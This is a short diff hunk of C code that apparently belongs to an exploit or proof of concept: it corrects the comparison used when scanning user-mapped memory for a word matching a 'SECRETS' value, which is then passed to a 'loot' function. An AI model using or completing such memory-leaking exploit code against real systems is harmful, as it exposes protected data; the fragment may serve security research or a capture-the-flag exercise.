@@ -184,7 +184,7 @@ static void mapped(void) {
         nap(1);
         for (u64 i = 0; i < count * 512; i++) {
             volatile u64 *word = (volatile u64 *)USER + i;
-            if (*word >> 32 == SECRETS >> 16) {
+            if (*word >> 16 == SECRETS) {
                 loot(*word);
                 end(0);
             }
